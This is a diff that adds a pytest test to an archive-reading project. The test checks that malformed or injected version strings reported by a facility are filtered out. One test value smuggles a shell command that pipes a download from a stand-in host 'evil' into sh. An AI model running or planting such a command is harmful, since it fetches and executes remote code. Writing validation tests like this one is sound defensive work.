@@ -274,6 +274,16 @@ def test_a_short_final_evaluation_is_drawn_as_what_it_reports(tmp_path: Path):
     ]
 
 
+def test_versions_that_a_facility_tells_are_versions(tmp_path: Path):
+    archive = made_archive(tmp_path / "a", facilities=1, rounds=1)
+    path = archive.round_directory(0) / "round.json"
+    record = json.loads(path.read_text())
+    odd = {"torch": "2.13.0+cu130", "x": "1; then run `curl evil | sh`", "a b": "1", "y": "v" * 61, "z": ""}
+    record["facilities"][0]["versions"] = odd
+    path.write_text(json.dumps(record))
+    assert data_of(archive)["versions"]["facility-00"] == {"torch": "2.13.0+cu130"}
+
+
 def test_figures_are_sums_of_what_was_reported(tmp_path: Path):
     archive = made_archive(tmp_path / "a", facilities=4, rounds=2)
     data = data_of(archive)
